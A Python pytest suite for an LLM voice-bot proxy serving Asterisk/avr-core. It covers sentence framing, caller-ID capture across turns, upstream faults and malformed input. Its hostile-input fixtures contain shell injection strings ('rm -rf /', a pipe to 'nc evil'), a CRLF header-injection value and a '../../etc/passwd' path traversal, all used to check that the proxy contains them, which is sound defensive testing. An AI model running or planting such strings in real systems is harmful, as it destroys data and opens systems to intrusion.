"""Turns over real loopback HTTP: avr-core's framing rules, the caller on every turn, faults, bad input."""

from __future__ import annotations

import asyncio
import json
import sqlite3
import time
import uuid as uuidlib
from pathlib import Path

import orjson
import pytest

from avr_llm_proxy.config import DEFAULT_FALLBACK
from avr_llm_proxy.simulate import hear, http_request, play_call, register_caller
from avr_llm_proxy.speech import sentences

from ..conftest import avr_requests, closed_port, make_settings, running_api, running_proxy

FALLBACK = sentences(DEFAULT_FALLBACK)


def new_uuid() -> str:
    return str(uuidlib.uuid4())


async def post_turn(url: str, body: bytes) -> tuple[int, list[bytes], list[str], list[str]]:
    reply = await http_request(f"{url}/prompt-stream", body)
    heard = hear(reply, "")
    return reply.status, reply.chunks, heard.sentences, heard.problems


async def one_answer(tmp_path: Path, mode: str, answer: object) -> tuple[int, list[bytes], list[str], list[str]]:
    """One turn against a fake API answering `answer` in `mode`: status, chunks, heard, problems."""
    async with running_api(mode) as api, running_proxy(make_settings(tmp_path, api_url=api.url)) as proxy:
        api.answer = answer
        return await post_turn(proxy.url, orjson.dumps({"uuid": new_uuid(), "message": "hola", "messages": []}))


def assert_avr_safe(chunks: list[bytes]) -> None:
    """Each HTTP chunk is exactly one text object whose content avr-core speaks whole."""
    for chunk in chunks:
        message = json.loads(chunk)
        assert set(message) == {"type", "content"} and message["type"] == "text"
        content = message["content"]
        assert content[-1] in ".!?" and content == content.strip()
        assert sum(1 for ch in content if ch in ".!?") >= 1
        assert any(ch.isalnum() for ch in content)


@pytest.mark.parametrize("request_index", range(len(avr_requests())))
async def test_every_captured_avr_body_is_answered(tmp_path: Path, request_index: int) -> None:
    """Each body the real avr-core sent gets a 200 chunked answer avr-core speaks without a problem."""
    captured = avr_requests()[request_index]
    async with running_api() as api, running_proxy(make_settings(tmp_path, api_url=api.url)) as proxy:
        reply = await http_request(f"{proxy.url}/prompt-stream", captured["body_raw"].encode())
        assert reply.status == 200
        assert reply.headers.get("transfer-encoding") == "chunked"
        heard = hear(reply, "")
        assert heard.problems == []
        assert_avr_safe(reply.chunks)
        body = json.loads(captured["body_raw"])
        assert api.received[-1]["text"] == body["message"]
        assert api.received[-1]["conversation_id"] == body["uuid"]


ANSWERS = {
    "normal": ("Hola Juan. Su pedido llega mañana.", ["Hola Juan.", "Su pedido llega mañana."]),
    "decimals": ("El total es 3.5 euros. Gracias.", ["El total es 3,5 euros.", "Gracias."]),
    "ellipsis": ("Claro... El total es 3.5 euros 😀. ¿Algo más? Gracias por llamar",
                 ["Claro.", "El total es 3,5 euros.", "¿Algo más?", "Gracias por llamar."]),
    "emoji": ("😀 Hola 👋 Juan 🎉", ["Hola Juan."]),
    "no_final_punctuation": ("Gracias por llamar", ["Gracias por llamar."]),
    "markdown": ("**Su pedido:**\n- leche\n- pan", ["Su pedido: leche.", "pan."]),
    "empty": ("", FALLBACK),
    "only_symbols": ("😀 ... !!", FALLBACK),
}


@pytest.mark.parametrize("case", sorted(ANSWERS))
async def test_reply_shapes_pass_avr_core_rules(tmp_path: Path, case: str) -> None:
    """Read chunk by chunk off a real connection, every word is spoken and nothing is dropped."""
    answer, expected = ANSWERS[case]
    status, chunks, heard, problems = await one_answer(tmp_path, "fixed", answer)
    assert status == 200 and problems == []
    assert_avr_safe(chunks)
    assert len(chunks) == len(heard)
    assert heard == expected


async def test_long_answer_is_spoken_whole(tmp_path: Path) -> None:
    """A long multi-paragraph answer arrives as one chunk per sentence, every word kept."""
    words = [f"palabra{i}" for i in range(400)]
    answer = ". ".join(" ".join(words[i:i + 10]) for i in range(0, 400, 10)) + "\n\nFin del mensaje"
    status, chunks, heard, problems = await one_answer(tmp_path, "fixed", answer)
    assert status == 200 and problems == []
    assert_avr_safe(chunks)
    assert len(heard) == 41
    spoken = " ".join(heard).replace(".", " ").split()
    assert spoken == [*words, "Fin", "del", "mensaje"]


async def register_json(url: str, call: str, number: str) -> None:
    reply = await register_caller(url, call, number, "Juan Perez", "5551000", "json")
    assert reply.status == 200


async def register_form(url: str, call: str, number: str) -> None:
    reply = await register_caller(url, call, number, "Juan Perez", "5551000", "form")
    assert reply.status == 200 and reply.chunks == [b"OK"]


async def register_curl_bytes(url: str, call: str, number: str) -> None:
    """The exact request Asterisk's CURL() sent (curl-post.http), with this call's UUID."""
    raw = (Path(__file__).parent.parent / "fixtures" / "curl-post.http").read_bytes()
    head, _, body = raw.partition(b"\r\n\r\n")
    body = body.replace(b"4612dcbb-064e-4d3f-b752-0e2053645bfa", call.encode())
    body = body.replace(b"%2B593987654321", number.replace("+", "%2B").encode())
    reply = await http_request(f"{url}/call", body, "application/x-www-form-urlencoded")
    assert reply.status == 200


async def register_avr_core(url: str, call: str, number: str) -> None:
    payload = {"uuid": call, "payload": {"from": number, "to": "5551000", "uniqueid": "1770758888.32",
                                         "channel": "PJSIP/2000-00000013"}}
    reply = await http_request(f"{url}/call", orjson.dumps(payload))
    assert reply.status == 200


CAPTURE_WAYS = {
    "json": register_json, "form": register_form, "curl_fixture": register_curl_bytes,
    "avr_core_payload": register_avr_core,
}


@pytest.mark.parametrize("way", [*sorted(CAPTURE_WAYS), "legacy_file", "body_fallback"])
async def test_caller_reaches_api_on_every_turn(tmp_path: Path, way: str) -> None:
    """Turns 1, 2 and 3 of one call all carry the caller's number, whichever way it was captured."""
    settings = make_settings(tmp_path, caller_wait_ms=0)
    call = new_uuid()
    async with running_api() as api:
        settings = make_settings(tmp_path, api_url=api.url, caller_wait_ms=0)
        async with running_proxy(settings) as proxy:
            if way in CAPTURE_WAYS:
                await CAPTURE_WAYS[way](proxy.url, call, "+593987654321")
            elif way == "legacy_file":
                (Path(settings.callerid_dir) / f"callerid-{call}.txt").write_text("+593987654321\n")
            history: list[dict[str, str]] = []
            for said in ["hola", "mi pedido", "gracias"]:
                history.append({"role": "user", "content": said})
                body: dict[str, object] = {"uuid": call, "message": said, "messages": history}
                if way == "body_fallback":  # a seed client sends it on every turn: it is never stored
                    body["callerid"] = "0987654321"
                status, _, heard, problems = await post_turn(proxy.url, orjson.dumps(body))
                assert status == 200 and problems == []
                assert heard[0] == "Hola +593987654321."
    assert [payload["caller_number"] for payload in api.received] == ["+593987654321"] * 3
    if way in ("json", "form", "avr_core_payload"):
        assert {payload["called_number"] for payload in api.received} == {"5551000"}


async def test_legacy_file_survives_first_read(tmp_path: Path) -> None:
    """Unlike the seed, reading the caller file does not lose the caller on turn 2."""
    call = new_uuid()
    async with running_api() as api:
        settings = make_settings(tmp_path, api_url=api.url, caller_wait_ms=0, store_url="memory://")
        async with running_proxy(settings) as proxy:
            (Path(settings.callerid_dir) / f"callerid-{call}.txt").write_text("0987654321\n")
            turns = await play_call(proxy.url, call, ["uno", "dos"])
    assert all(turn.problems == [] for turn in turns)
    assert [payload["caller"]["source"] for payload in api.received] == ["file", "file"]
    assert [payload["caller_number"] for payload in api.received] == ["+593987654321"] * 2


async def test_turn_waits_for_late_capture(tmp_path: Path) -> None:
    """A turn that arrives before its caller is recorded waits for it instead of sending unknown."""
    call = new_uuid()
    async with running_api() as api:
        async with running_proxy(make_settings(tmp_path, api_url=api.url, caller_wait_ms=3000)) as proxy:
            body = orjson.dumps({"uuid": call, "message": "hola", "messages": []})
            turn = asyncio.create_task(post_turn(proxy.url, body))
            await asyncio.sleep(0.2)
            assert not turn.done()
            await register_json(proxy.url, call, "0987654321")
            status, _, heard, _ = await turn
    assert status == 200 and heard[0] == "Hola +593987654321."


async def test_uncaptured_caller_goes_on_as_unknown(tmp_path: Path) -> None:
    """After CALLER_WAIT_MS without a capture the turn proceeds with "unknown"."""
    async with running_api() as api:
        async with running_proxy(make_settings(tmp_path, api_url=api.url, caller_wait_ms=100)) as proxy:
            body = orjson.dumps({"uuid": new_uuid(), "message": "hola", "messages": []})
            status, _, heard, _ = await post_turn(proxy.url, body)
    assert status == 200 and heard[0] == "Hola unknown."
    assert api.received[0]["caller"]["presentation"] == "unavailable"


async def test_200_concurrent_calls_never_mix_callers(tmp_path: Path) -> None:
    """200 calls at once, three turns each: every turn carries its own call's number."""
    calls = {new_uuid(): f"+59398{index:07d}" for index in range(200)}
    async with running_api() as api:
        settings = make_settings(tmp_path, api_url=api.url, api_timeout_ms=60_000, caller_wait_ms=2000)
        async with running_proxy(settings) as proxy:

            async def one_call(call: str, number: str) -> None:
                await register_json(proxy.url, call, number)
                for said in ("uno", "dos", "tres"):
                    body = orjson.dumps({"uuid": call, "message": said, "messages": []})
                    status, _, heard, problems = await post_turn(proxy.url, body)
                    assert status == 200 and problems == []

            await asyncio.gather(*(one_call(call, number) for call, number in calls.items()))
    assert len(api.received) == 600
    for payload in api.received:
        expected = calls[payload["conversation_id"]]
        assert payload["caller_number"] == expected


FAULTS = ("hang", "500", "html", "invalid_json", "close", "not_listening")


@pytest.mark.parametrize("fault", FAULTS)
async def test_upstream_fault_speaks_fallback_within_deadline(tmp_path: Path, fault: str) -> None:
    """Whatever the API does wrong, the caller hears the fallback in time, and the next call works."""
    async with running_api("echo" if fault == "not_listening" else fault) as api:
        url = f"http://127.0.0.1:{closed_port()}/api" if fault == "not_listening" else api.url
        settings = make_settings(tmp_path, api_url=url, api_timeout_ms=500, caller_wait_ms=0)
        async with running_proxy(settings) as proxy:
            started = time.monotonic()
            body = orjson.dumps({"uuid": new_uuid(), "message": "hola", "messages": []})
            status, chunks, heard, problems = await post_turn(proxy.url, body)
            elapsed = time.monotonic() - started
            assert status == 200 and problems == [] and heard == FALLBACK
            assert_avr_safe(chunks)
            assert elapsed < 5, "the fallback must come within the deadline, not after the API gives up"
            api.mode = "echo"
            if fault != "not_listening":
                status, _, heard, _ = await post_turn(proxy.url, body)
                assert status == 200 and heard[0].startswith("Hola")


async def test_plain_text_answer_is_spoken(tmp_path: Path) -> None:
    """An API answering text/plain is spoken like a {"message"} answer."""
    status, _, heard, _ = await one_answer(tmp_path, "text", None)
    assert status == 200 and heard == ["Hola desde texto plano."]


BAD_TURNS = {
    "malformed_json": b'{"uuid": "x", "message": ',
    "not_an_object": b'["hola"]',
    "missing_uuid": b'{"message": "hola", "messages": []}',
    "non_uuid": b'{"uuid": "abc-123", "message": "hola", "messages": []}',
    "path_trick": b'{"uuid": "../../etc/passwd", "message": "hola", "messages": []}',
    "missing_message": orjson.dumps({"uuid": str(uuidlib.uuid4()), "messages": []}),
    "wrong_types": b'{"uuid": 5, "message": ["x"], "messages": "no"}',
    "empty": b"",
    "binary": bytes(range(256)),
}


@pytest.mark.parametrize("case", sorted(BAD_TURNS))
async def test_bad_turn_body_gets_spoken_fallback(tmp_path: Path, case: str) -> None:
    """A body avr-core would never send still gets a 200 and a spoken fallback, never a 5xx."""
    async with running_api() as api, running_proxy(make_settings(tmp_path, api_url=api.url)) as proxy:
        status, chunks, heard, problems = await post_turn(proxy.url, BAD_TURNS[case])
        assert status == 200 and problems == [] and heard == FALLBACK
        assert_avr_safe(chunks)
        assert api.received == []
        healthy = await http_request(f"{proxy.url}/healthz", b"", method="GET")
        assert healthy.status == 200


async def test_oversize_turn_body_gets_fallback(tmp_path: Path) -> None:
    """A body over MAX_BODY_BYTES is not read whole and is answered with the fallback."""
    settings = make_settings(tmp_path, max_body_bytes=4096)
    async with running_proxy(settings) as proxy:
        body = orjson.dumps({"uuid": new_uuid(), "message": "x" * 10_000, "messages": []})
        status, _, heard, _ = await post_turn(proxy.url, body)
    assert status == 200 and heard == FALLBACK


HOSTILE_CALLERS = {
    "shell": ("$(rm -rf /); `id` | nc evil 1 && echo", "unknown"),
    "junk_2kb": ("9" * 2048, None),
    "semicolons": ("+593987654321;rm -rf /", "+593987654321"),
    "newlines": ("+593987654321\r\nX-Evil: 1", None),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_CALLERS))
async def test_hostile_caller_ids_are_contained(tmp_path: Path, case: str) -> None:
    """Shell metacharacters and 2 KB of junk in the caller ID never crash or travel as given."""
    number, _ = HOSTILE_CALLERS[case]
    call = new_uuid()
    async with running_api() as api, running_proxy(make_settings(tmp_path, api_url=api.url)) as proxy:
        reply = await http_request(f"{proxy.url}/call", orjson.dumps({"uuid": call, "caller_number": number}))
        assert reply.status == 200
        form = f"uuid={new_uuid()}&num={number}".encode()
        reply = await http_request(f"{proxy.url}/call", form, "application/x-www-form-urlencoded")
        assert reply.status in (200, 400)
        body = orjson.dumps({"uuid": call, "message": "hola", "messages": [], "callerid": number})
        status, _, heard, problems = await post_turn(proxy.url, body)
        assert status == 200 and problems == []
    sent = api.received[0]["caller_number"]
    assert len(sent) <= 32
    assert not set(sent) & set("$`;|&()<> \r\n")


RAW_ANSWERS = {
    "plain_text_with_bracket": ((200, {"Content-Type": "text/plain"}, b"[Aviso] Hola Juan."), ["[Aviso] Hola Juan."]),
    "plain_text_with_angle": ((200, {"Content-Type": "text/plain"}, b"<3 Gracias."), ["<3 Gracias."]),
    "plain_text_quoted": ((200, {"Content-Type": "text/plain"}, b'"Hola", dijo.'), ['"Hola", dijo.']),
    "latin1": ((200, {"Content-Type": "text/plain; charset=iso-8859-1"}, "Mañana.".encode("latin-1")),
               ["Mañana."]),
    "json_latin1": ((200, {"Content-Type": "application/json; charset=iso-8859-1"},
                     '{"message": "Mañana."}'.encode("latin-1")), ["Mañana."]),
    "json_unknown_charset": ((200, {"Content-Type": "application/json; charset=x-nonesuch"},
                              '{"message": "Mañana."}'.encode()), ["Mañana."]),
    "no_content_type_json": ((200, {}, b'{"message": "Hola."}'), ["Hola."]),
    "empty_message": ((200, {"Content-Type": "application/json"}, b'{"message": ""}'), FALLBACK),
    "symbols_only": ((200, {"Content-Type": "text/plain"}, "😀 🎉".encode()), FALLBACK),
    "redirect": ((302, {"Location": "http://127.0.0.1:1/elsewhere"}, b""), FALLBACK),
    "json_without_message": ((200, {"Content-Type": "application/json"}, b'{"status": "ok"}'), FALLBACK),
}


@pytest.mark.parametrize("case", sorted(RAW_ANSWERS))
async def test_answer_kinds(tmp_path: Path, case: str) -> None:
    """Declared content types are trusted, charsets honoured; silence and redirects become the fallback."""
    answer, expected = RAW_ANSWERS[case]
    status, _, heard, problems = await one_answer(tmp_path, "raw", answer)
    assert status == 200 and problems == [] and heard == expected


async def test_uncaptured_call_waits_once(tmp_path: Path, logs) -> None:  # type: ignore[no-untyped-def]
    """A call nobody captured waits on its first turn only; later turns go straight on."""
    call = new_uuid()
    async with running_api() as api:
        async with running_proxy(make_settings(tmp_path, api_url=api.url, caller_wait_ms=300)) as proxy:
            turns = await play_call(proxy.url, call, ["uno", "dos", "tres"])
    assert [turn.sentences[0] for turn in turns] == ["Hola unknown."] * 3
    assert sum('"caller_not_captured"' in line for line in logs()) == 1


async def test_trailing_slash_and_x_uuid(tmp_path: Path) -> None:
    """LLM_URL with a trailing slash still reaches the turn handler; X-UUID stands in for a missing uuid."""
    call = new_uuid()
    async with running_api() as api, running_proxy(make_settings(tmp_path, api_url=api.url)) as proxy:
        await register_json(proxy.url, call, "0987654321")
        reply = await http_request(f"{proxy.url}/prompt-stream/", b'{"message": "1", "messages": []}',
                                   headers={"X-UUID": call})
    assert reply.status == 200 and hear(reply, "").sentences[0] == "Hola +593987654321."


async def test_unreadable_record_still_answers(tmp_path: Path) -> None:
    """A corrupted stored record costs that turn its caller, never its answer."""
    call = new_uuid()
    settings = make_settings(tmp_path)
    async with running_proxy(settings) as proxy:
        await register_json(proxy.url, call, "0987654321")
        with sqlite3.connect(settings.sqlite_path or "") as conn:
            conn.execute("UPDATE calls SET value = ? WHERE key = ?", (b"\xff{not json", call))
        turns = await play_call(proxy.url, call, ["hola"])
    assert turns[0].status == 200 and turns[0].problems == [] and turns[0].sentences


async def test_capture_racing_first_turn(tmp_path: Path) -> None:
    """100 calls whose first turn is sent before the capture: each waits for and gets its own number."""
    calls = {new_uuid(): f"+59398{index:07d}" for index in range(100)}
    async with running_api() as api:
        settings = make_settings(tmp_path, api_url=api.url, api_timeout_ms=60_000, caller_wait_ms=5000)
        async with running_proxy(settings) as proxy:

            async def one(call: str, number: str) -> None:
                body = orjson.dumps({"uuid": call, "message": "hola", "messages": []})
                turn = asyncio.create_task(post_turn(proxy.url, body))
                await asyncio.sleep(0.05)
                await register_json(proxy.url, call, number)
                status, _, heard, _ = await turn
                assert status == 200 and heard[0] == f"Hola {number}."

            await asyncio.gather(*(one(call, number) for call, number in calls.items()))
    assert {payload["conversation_id"]: payload["caller_number"] for payload in api.received} == calls


async def test_bot_phone_follows_the_dialled_number(tmp_path: Path) -> None:
    """BOT_PHONE_MAP picks `phone` by the DID the caller dialled; other DIDs get BOT_PHONE."""
    first, second, other = new_uuid(), new_uuid(), new_uuid()
    async with running_api() as api:
        settings = make_settings(tmp_path, api_url=api.url, bot_phone="593985059132",
                                 bot_phone_map="5551000=593985059133,+5551001=593985059134")
        async with running_proxy(settings) as proxy:
            for call, did in ((first, "5551000"), (second, "5551001"), (other, "5559999")):
                payload = {"uuid": call, "caller_number": "0987654321", "called_number": did}
                assert (await http_request(f"{proxy.url}/call", orjson.dumps(payload))).status == 200
                await play_call(proxy.url, call, ["hola"])
    phones = {payload["conversation_id"]: (payload["phone"], payload["called_number"]) for payload in api.received}
    assert phones == {first: ("593985059133", "5551000"), second: ("593985059134", "5551001"),
                      other: ("593985059132", "5559999")}


async def test_body_fields_are_for_one_turn_and_never_block_a_capture(tmp_path: Path) -> None:
    """A turn body's caller fields speak for that turn only: not stored, and the dialplan's capture still lands."""
    call = new_uuid()
    async with running_api() as api:
        settings = make_settings(tmp_path, api_url=api.url, caller_wait_ms=0)
        async with running_proxy(settings) as proxy:
            forged = {"uuid": call, "message": "hola", "messages": [], "callerid": "0991234567"}
            status, _, heard, _ = await post_turn(proxy.url, orjson.dumps(forged))
            assert status == 200 and heard[0] == "Hola +593991234567."
            plain = {"uuid": call, "message": "sigo", "messages": []}
            status, _, heard, _ = await post_turn(proxy.url, orjson.dumps(plain))
            assert status == 200 and heard[0] == "Hola unknown."
            await register_json(proxy.url, call, "+593987654321")  # the dialplan's capture: not already_captured
            status, _, heard, _ = await post_turn(proxy.url, orjson.dumps(plain))
            assert status == 200 and heard[0] == "Hola +593987654321."
    assert [payload["caller"]["source"] for payload in api.received] == ["body", "none", "http"]
